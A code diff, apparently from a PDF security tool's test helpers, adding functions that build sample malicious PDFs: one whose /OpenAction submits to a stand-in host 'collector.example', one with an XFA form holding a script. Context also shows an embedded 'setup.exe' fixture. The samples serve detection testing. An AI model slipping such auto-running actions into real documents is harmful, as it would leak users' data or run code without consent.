@@ -172,6 +172,35 @@ def pdf_with_launch_action() -> bytes:
     return _written(writer)
 
 
+def pdf_with_open_action(action: str) -> bytes:
+    """A PDF whose opening runs the action ``action`` (e.g. ``/SubmitForm``, ``/GoToE``)."""
+    from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+
+    writer = _pdf_writer()
+    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
+        {
+            NameObject("/S"): NameObject(action),
+            NameObject("/F"): TextStringObject("https://collector.example/submit"),
+        }
+    )
+    return _written(writer)
+
+
+def pdf_with_xfa_form() -> bytes:
+    """A PDF with an XFA form: its XML may carry scripts that Acrobat runs."""
+    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
+
+    writer = _pdf_writer()
+    xfa = '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>'
+    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
+        {
+            NameObject("/Fields"): ArrayObject(),
+            NameObject("/XFA"): TextStringObject(xfa),
+        }
+    )
+    return _written(writer)
+
+
 def pdf_with_embedded_file() -> bytes:
     writer = _pdf_writer()
     writer.add_attachment("setup.exe", WINDOWS_EXECUTABLE)
